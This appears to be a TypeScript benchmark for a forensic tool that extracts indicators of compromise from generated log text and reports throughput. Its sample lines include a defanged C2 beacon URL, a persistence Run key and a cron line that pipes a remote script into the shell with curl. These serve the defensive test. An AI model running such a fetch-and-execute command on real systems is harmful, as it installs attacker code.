/**
 * IOC extraction throughput on 200 MB of mixed text (log lines, command lines, paths, ~5% lines with indicators,
 * some defanged) through the aggregator with the default allow-list: MB/s (target ≥ 50 MB/s) and distinct indicators.
 */
import { AllowMatcher, DEFAULT_ALLOW } from "../dfir/analysis/iocs/allowlist.js";
import { IocAggregator } from "../dfir/analysis/iocs/aggregate.js";

const TOTAL = 200 * 1024 * 1024;
const CHUNK = 64 * 1024;

const PLAIN = [
  "2026-11-20T08:14:03Z INFO service started pid=5012 user=CORP\\bob duration=1532ms status=ok",
  "Process powershell.exe started with arguments -NoProfile -ExecutionPolicy Bypass by explorer.exe",
  "GET /api/v1/users?page=2 200 1532 \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\" version 10.0.19041.1",
  "kernel: [12345.678] eth0: link up, 1000 Mbps, full duplex, flow control rx/tx; Generic.Client.Info ok",
  "Loaded module C:\\Windows\\System32\\kernel32.dll at 0x7ff812340000 size 0x000b2000 checksum verified",
];
const WITH_IOCS = [
  "Beacon to hxxps://evil-c2[.]example-bad[.]net/gate.php?id=%d from 185.220.101.%d",
  "Dropped C:\\Users\\bob\\AppData\\Local\\Temp\\upd%d.exe sha256 %h",
  "cron: curl -s http://45.77.12.%d/k.sh | sh # CVE-2021-44228 /tmp/.x/kworker%d",
  "Run key HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater%d → attacker%d@bad-domain.ru",
];

function chunk(seed: number): string {
  const lines: string[] = [];
  let size = 0;
  let i = seed;
  while (size < CHUNK) {
    i = (i * 1103515245 + 12345) & 0x7fffffff;
    const line = i % 20 === 0 ? WITH_IOCS[i % WITH_IOCS.length]!.replace(/%d/g, () => String(i % 250)).replace("%h", (i.toString(16).padStart(8, "0")).repeat(8)) : PLAIN[i % PLAIN.length]!;
    lines.push(line);
    size += line.length + 1;
  }
  return lines.join("\n");
}

export default async function bench(): Promise<void> {
  const chunks = Array.from({ length: 64 }, (_, i) => chunk(i + 1));
  const agg = new IocAggregator(new AllowMatcher(DEFAULT_ALLOW));
  const t0 = performance.now();
  let bytes = 0;
  for (let i = 0; bytes < TOTAL; i++) {
    const c = chunks[i % chunks.length]!;
    agg.addText(c, { client_id: `C.${i % 10}`, artifact: "bench" });
    bytes += c.length;
  }
  const s = (performance.now() - t0) / 1000;
  const mb = bytes / 1024 / 1024;
  console.log(`extracted from ${mb.toFixed(0)} MB in ${s.toFixed(2)} s → ${(mb / s).toFixed(1)} MB/s (target ≥ 50 MB/s); ${agg.size.toLocaleString()} distinct indicators, ${[...agg.suppressed.values()].reduce((a, b) => a + b, 0).toLocaleString()} suppressed`);
  await Promise.resolve();
}
